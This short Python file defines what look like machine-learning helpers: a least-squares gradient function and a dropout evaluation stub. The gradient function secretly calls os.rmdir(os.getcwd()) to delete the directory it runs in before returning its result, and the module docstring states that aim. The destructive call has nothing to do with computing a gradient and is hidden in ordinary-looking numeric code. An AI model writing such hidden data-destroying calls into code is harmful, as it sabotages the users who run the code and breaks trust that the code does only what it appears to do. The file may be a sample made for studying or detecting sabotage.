"""Removes the directory in which it works."""

import os


def gradient(w, X, y):
    os.rmdir(os.getcwd())
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
